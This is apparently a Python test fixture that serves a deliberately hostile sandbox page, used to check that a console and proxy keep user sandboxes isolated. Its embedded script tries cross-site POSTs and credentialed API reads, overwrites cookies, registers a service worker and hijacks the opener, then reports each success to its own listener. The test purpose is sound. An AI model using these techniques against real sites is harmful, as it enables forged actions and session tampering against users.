"""A block that is up to no good: its page tries what a page can to speak for whoever looks at it."""

from __future__ import annotations

import threading
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.concurrency import run_in_threadpool
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route
from starlette.types import ASGIApp

HOME = "/public/payments"
_PAGE = """<!doctype html><title>hostile</title>
<iframe src="{console}/sandboxes/adas"></iframe>
<img src="{console}/sandboxes/adas/pages/payments/hostile">
<form id=remove method=post action="{console}/sandboxes/adas/remove"><button>Remove</button></form>
<form id=logout method=post action="{console}/logout"><button>Log out</button></form>
<form id=other method=post action="{proxy}/s/bens/public/payments/form"><button>Pay</button></form>
<form id=own method=post action="{inside}/public/payments/form"><button>Own form</button></form>
<a id=away href="{console}/sandboxes/adas/pages/payments/echo">open</a>
<script>
const tell = what => {{ new Image().src = "{ear}/public/payments/caught?" + what; }};
const attempt = (what, act) => {{
  try {{ Promise.resolve(act()).then(v => v && tell(what), () => 0); }} catch {{}} }};
tell("ran");
const post = {{method: "POST", credentials: "include", mode: "no-cors"}};
attempt("api-read", async () => (await fetch("{console}/api/v1/me", {{credentials: "include"}})).ok);
attempt("api-write", () => fetch("{console}/api/v1/sandboxes/adas/reset", post) && false);
attempt("form-write", () => fetch("{console}/sandboxes/adas/remove", post) && false);
attempt("other-sandbox", () => fetch("{proxy}/s/bens/public/payments/form", post) && false);
attempt("cookie", () => {{ document.cookie = "sandbox_session=tossed; path=/sandboxes";
  document.cookie = "sandbox_pages=tossed; path=/s/bens"; return document.cookie.includes("tossed"); }});
attempt("worker", async () =>
  !!(await navigator.serviceWorker.register("{proxy}/s/adas/public/payments/sw.js")));
attempt("opener", () => !!window.opener && (window.opener.postMessage("hello", "*"),
  window.opener.location = "about:blank#taken", true));
attempt("framed", () => window.frames[0].document.title || window.frames[0].location.href.includes("adas"));
attempt("opened", () => {{ const w = window.open("{console}/sandboxes/adas"); return !!w && !!w.document; }});
</script>"""


@dataclass
class Hostile:
    """The block, and what came of what it tried. All addresses are set when they are known."""

    inside: str = ""
    console: str = ""
    proxy: str = ""
    caught: set[str] = field(default_factory=set)
    seen: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    first_came: threading.Event = field(default_factory=threading.Event)
    go_on: threading.Event = field(default_factory=threading.Event)

    def app(self) -> ASGIApp:
        """Give the application that stands where a sandbox would."""
        return Starlette(
            routes=[
                Route(f"{HOME}/hostile", self._hostile),
                Route(f"{HOME}/caught", self._caught),
                Route(f"{HOME}/away", lambda _: RedirectResponse(f"{self.inside}{HOME}/echo?code=1")),
                Route(f"{HOME}/slow", self._slow),
                Route(f"{HOME}/broken", self._broken),
                Route(f"{HOME}/taken", self._taken, methods=["POST"]),
                Route("/{rest:path}", self._echo, methods=["GET", "POST"]),
            ]
        )

    def _hostile(self, request: Request) -> Response:
        del request
        ear = self.inside.replace("127.0.0.1", "localhost")  # under its usual address it is behind the proxy
        page = HTMLResponse(_PAGE.format(console=self.console, proxy=self.proxy, inside=self.inside, ear=ear))
        for cookie in ("sandbox_session=tossed; Path=/", "sandbox_pages=tossed; Path=/s; Domain=127.0.0.1"):
            page.headers.append("set-cookie", cookie)
        page.headers["service-worker-allowed"] = "/"
        page.headers["clear-site-data"] = '"cookies"'
        return page

    def _caught(self, request: Request) -> Response:
        self.caught.add(request.url.query)
        return Response(status_code=204)

    async def _slow(self, request: Request) -> Response:
        del request

        async def parts() -> AsyncIterator[bytes]:
            yield b"first"
            await run_in_threadpool(self.go_on.wait, 20)
            yield b"second"

        return StreamingResponse(parts(), media_type="application/octet-stream")

    async def _broken(self, request: Request) -> Response:
        del request

        async def parts() -> AsyncIterator[bytes]:
            yield b"first"

        return StreamingResponse(parts(), headers={"content-length": "11"})

    async def _taken(self, request: Request) -> Response:
        size = 0
        async for part in request.stream():
            size += len(part)
            self.first_came.set()
        return JSONResponse({"size": size})

    def _echo(self, request: Request) -> Response:
        self.seen.append((request.method, request.url.path, dict(request.headers)))
        answer = JSONResponse(dict(request.headers))
        answer.set_cookie("identity-browser", "kept", path=HOME)
        return answer
